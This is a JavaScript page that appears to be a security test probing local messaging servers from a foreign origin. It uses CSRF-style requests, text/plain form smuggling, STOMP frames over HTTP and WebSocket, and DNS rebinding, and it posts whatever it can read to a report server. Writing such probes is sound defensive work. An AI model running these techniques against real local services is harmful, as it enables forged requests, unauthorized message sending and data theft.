// What a page of another origin can try. Reports to its own server what it could read.
const query = new URLSearchParams(location.search);
const home = query.get("home");
const found = [];

function read(attack, text) {
  found.push({attack, text: String(text).slice(0, 500)});
}

function request(key) {
  const recipient = {contactKey: "eve@example.com", to: "4915112345678", attributes: {FirstName: "Eve", password: "1"}};
  return JSON.stringify({messageKey: key, definitionKey: "account-reset", recipient});
}

function frames(key) {
  return "CONNECT\naccept-version:1.2\nhost:localhost\n\n\0"
    + "SEND\ndestination:sms.send\npersistent:true\n\n" + request(key) + "\0"
    + "SUBSCRIBE\nid:1\ndestination:sms.send.invalid\n\n\0";
}

function withoutKey(key) {
  const body = JSON.parse(request(key));
  delete body.messageKey;
  return JSON.stringify(body);
}

// No attempt lasts longer than this, so that the page ends even where a server keeps silent.
function atMost(work) {
  return Promise.race([work.catch(() => {}), new Promise(done => setTimeout(done, 4000))]);
}

async function fetching(attack, url, options) {
  const reply = await fetch(url, options);
  if (reply.type !== "opaque") {
    read(attack, reply.status + " " + await reply.text());
  }
}

const MESSAGES = "/messaging/v1/sms/messages/";
const READ = [MESSAGES + "canary", "/observe/metrics", "/observe/health", "/sandbox/messages", "/sandbox", "/", "/page/api/session",
  "/page/api/messages?state=PARKED"];

function fetches(name, base) {
  const key = suffix => name + "-" + suffix;
  const post = (attack, path, body, options) =>
    atMost(fetching(key(attack), base + path, {method: "POST", body, ...options}));
  const json = {headers: {"Content-Type": "application/json"}};
  const silent = {mode: "no-cors"};
  return [
    post("cors-json", MESSAGES + key("cors-json"), withoutKey(""), json),
    post("cors-text", MESSAGES + key("cors-text"), withoutKey(""), {}),
    post("no-cors-text", MESSAGES + key("no-cors-text"), withoutKey(""), silent),
    post("no-cors-blob", MESSAGES + key("no-cors-blob"), new Blob([withoutKey("")]), silent),
    post("no-cors-form", MESSAGES + key("no-cors-form"), new URLSearchParams({a: "b"}), silent),
    post("no-cors-frames", "/", frames(key("no-cors-frames")), silent),
    post("page", "/page/api/files/cancel", JSON.stringify({file: "any.csv"}), json),
    post("token", "/v2/token", new URLSearchParams({grant_type: "client_credentials", client_id: "x", client_secret: "x"}), {}),
    atMost(fetching(key("put"), base + "/sandbox/faults", {method: "PUT", body: "[]"})),
    atMost(fetching(key("delete"), base + "/sandbox/messages", {method: "DELETE"})),
    ...READ.map(path => atMost(fetching(key("get " + path), base + path, {}))),
    ...READ.map(path => atMost(fetching(key("get-no-cors " + path), base + path, silent)))
  ];
}

function beacons(name, base) {
  navigator.sendBeacon(base + MESSAGES + name + "-beacon", withoutKey(""));
  navigator.sendBeacon(base + "/", frames(name + "-beacon-frames"));
}

// A form of this encoding sends name=value and a line end: the equals sign hides in an attribute.
function form(name, base, path, body) {
  return atMost(new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = name + Math.random();
    frame.onload = () => {
      try {
        if (frame.contentWindow.location.href !== "about:blank") {
          read(name + " frame", frame.contentDocument.body.innerText);
          done();
        }
      } catch (sealed) {
        done();
      }
    };
    document.body.append(frame);
    const sent = document.createElement("form");
    sent.method = "POST";
    sent.enctype = "text/plain";
    sent.target = frame.name;
    sent.action = base + path;
    const field = document.createElement("textarea");
    const cut = body.indexOf("Eve") + 1;
    field.name = body.slice(0, cut);
    field.value = body.slice(cut);
    sent.append(field);
    document.body.append(sent);
    sent.submit();
  }));
}

function elements(name, base) {
  return ["img", "script", "iframe"].flatMap(tag => READ.map(path => atMost(new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => {
      try {
        const text = tag === "iframe" && element.contentDocument && element.contentDocument.body.innerText;
        if (text) {
          read(name + " " + tag, text);
        }
      } finally {
        done();
      }
    };
    element.onerror = done;
    element.src = base + path;
    document.body.append(element);
  }))));
}

function socket(name, port, protocols) {
  return atMost(new Promise(done => {
    const key = name + "-socket" + protocols.join("");
    const ws = new WebSocket("ws://127.0.0.1:" + port + "/", protocols);
    ws.onopen = () => {
      read(key, "opened");
      ws.send(frames(key));
    };
    ws.onmessage = async event => read(key, event.data instanceof Blob ? await event.data.text() : event.data);
    ws.onclose = done;
  }));
}

async function attack(name, port) {
  const base = "http://127.0.0.1:" + port;
  beacons(name, base);
  await Promise.all(fetches(name, base));
  await Promise.all([
    form(name + "-form", base, MESSAGES + name + "-form", withoutKey("")),
    form(name + "-form-frames", base, "/", frames(name + "-form-frames"))
  ]);
  await Promise.all(elements(name, base));
  await Promise.all([[], ["v12.stomp"], ["v10.stomp"], ["amqp"]].map(protocols => socket(name, port, protocols)));
}

// A page whose name was bound anew to 127.0.0.1 is, for the browser, of the server's own origin.
function frame(url) {
  const element = document.createElement("iframe");
  element.src = url;
  document.body.append(element);
}

async function run() {
  const rebound = location.hostname.match(/^rebound-(.*).test$/);
  if (rebound) {
    await Promise.all(fetches(rebound[1], ""));
  } else {
    await Promise.all(query.getAll("target").map(target => {
      const [name, port] = target.split(":");
      frame("http://rebound-" + name + ".test:" + port + "/rebound?home=" + home);
      return attack(name, port);
    }));
  }
  await fetch(home + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify({page: location.origin, found})});
}

addEventListener("load", run);
